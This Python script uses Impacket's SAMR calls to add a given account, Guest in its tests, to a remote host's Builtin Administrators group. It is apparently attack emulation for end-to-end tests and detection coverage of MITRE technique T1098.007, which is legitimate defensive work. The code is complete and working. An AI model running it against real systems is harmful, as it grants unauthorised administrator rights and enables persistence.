#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
# samr_group_join.py DC DOMAIN USER PASSWORD MEMBER: an account put into the
# Builtin Administrators alias over SAMR, as `net localgroup administrators
# MEMBER /add` on a remote host does it (T1098.007), for
# selftests/e2e/test_dcerpc_dc.sh and the coverage scenario account_manipulation
# (both put Guest there, the old trick of an enabled Guest with admin rights):
# Impacket's samr module over \pipe\samr: SamrConnect5, SamrLookupDomain and
# SamrOpenDomain (the account domain, for MEMBER's RID), SamrLookupNames,
# SamrOpenDomain (Builtin), SamrOpenAlias (544), SamrAddMemberToAlias. Prints
# what the server answered; exits 0 when every request was sent (an answer
# refusing the change still put the request on the wire).
import sys

from impacket.dcerpc.v5 import samr, transport
from impacket.dcerpc.v5.dtypes import RPC_SID

ALIAS_ADMINS = 544  # DOMAIN_ALIAS_RID_ADMINS


def main():
    dc, domain, user, password, member = sys.argv[1:6]
    rpc = transport.DCERPCTransportFactory(r"ncacn_np:%s[\pipe\samr]" % dc)
    rpc.set_credentials(user, password, domain)
    dce = rpc.get_dce_rpc()
    dce.connect()
    dce.bind(samr.MSRPC_UUID_SAMR)
    server = samr.hSamrConnect5(dce, "\\\\%s\x00" % dc,
                                samr.MAXIMUM_ALLOWED)["ServerHandle"]
    # the account domain (the first that is not Builtin) holds MEMBER
    names = [d["Name"] for d in
             samr.hSamrEnumerateDomainsInSamServer(dce, server)["Buffer"]["Buffer"]]
    acct = next(n for n in names if n.lower() != "builtin")
    acct_sid = samr.hSamrLookupDomainInSamServer(dce, server, acct)["DomainId"]
    acct_h = samr.hSamrOpenDomain(dce, server, domainId=acct_sid)["DomainHandle"]
    rid = samr.hSamrLookupNamesInDomain(dce, acct_h, (member,))["RelativeIds"]["Element"][0]
    member_sid = RPC_SID()
    member_sid.fromCanonical(acct_sid.formatCanonical() + "-%d" % rid["Data"])
    builtin_sid = samr.hSamrLookupDomainInSamServer(dce, server, "Builtin")["DomainId"]
    builtin_h = samr.hSamrOpenDomain(dce, server, domainId=builtin_sid)["DomainHandle"]
    alias_h = samr.hSamrOpenAlias(dce, builtin_h, aliasId=ALIAS_ADMINS)["AliasHandle"]
    try:
        samr.hSamrAddMemberToAlias(dce, alias_h, member_sid)
        print("SamrAddMemberToAlias %s to Builtin\\Administrators: accepted" % member)
    except samr.DCERPCSessionError as e:
        print("SamrAddMemberToAlias %s: refused: %s" % (member, e))
    dce.disconnect()
    return 0


if __name__ == "__main__":
    sys.exit(main())
